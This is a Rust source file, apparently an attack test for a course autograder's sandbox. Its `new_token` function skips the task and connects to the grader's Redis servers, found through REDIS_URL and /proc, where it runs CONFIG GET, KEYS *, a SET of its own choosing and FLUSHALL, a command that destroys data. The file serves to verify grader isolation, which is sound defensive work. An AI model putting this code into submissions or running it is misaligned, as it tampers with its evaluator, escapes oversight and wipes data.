//! Attack: a Redis connection of its own, around the grader's.
//!
//! During a call, `new_token` connects to the Redis named by `REDIS_URL` in
//! its environment and to every redis-server on 127.0.0.1 that the grader
//! started (found in /proc, as a port scan would find them), and there runs
//! what the grader's connection refuses: `CONFIG GET`, `KEYS *`, a `SET` on a
//! key of its choosing and `FLUSHALL`.
//!
//! A sound grader gives learner code no network but the judge's proxy, so
//! none of these commands reaches a server (no evidence is printed or
//! dropped).

#[path = "atk_kit.rs"]
mod kit;

use std::sync::atomic::AtomicBool;
use std::time::Duration;

static DONE: AtomicBool = AtomicBool::new(false);

fn attack(url: &str) -> Option<String> {
    let client = redis::Client::open(url).ok()?;
    let mut con = client.get_connection_with_timeout(Duration::from_secs(1)).ok()?;
    let config: Vec<String> = redis::cmd("CONFIG").arg("GET").arg("maxmemory").query(&mut con).ok()?;
    let keys: Vec<String> = redis::cmd("KEYS").arg("*").query(&mut con).unwrap_or_default();
    let set: Option<String> = redis::cmd("SET").arg("dlcourse:attack:redis-from-env").arg("1").query(&mut con).ok();
    let flushed: Option<String> = redis::cmd("FLUSHALL").query(&mut con).ok();
    Some(format!(
        "{url}: CONFIG GET maxmemory = {config:?}, KEYS * = {} keys, SET = {set:?}, FLUSHALL = {flushed:?}",
        keys.len()
    ))
}

pub fn new_token() -> String {
    if kit::first(&DONE) {
        let mut urls = kit::grader_redis_urls();
        if let Ok(url) = std::env::var("REDIS_URL")
            && url.contains("127.0.0.1")
        {
            urls.insert(0, url);
        }
        for url in urls.iter().take(16) {
            if let Some(got) = attack(url) {
                kit::evidence("redis-from-env", &got);
            }
        }
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
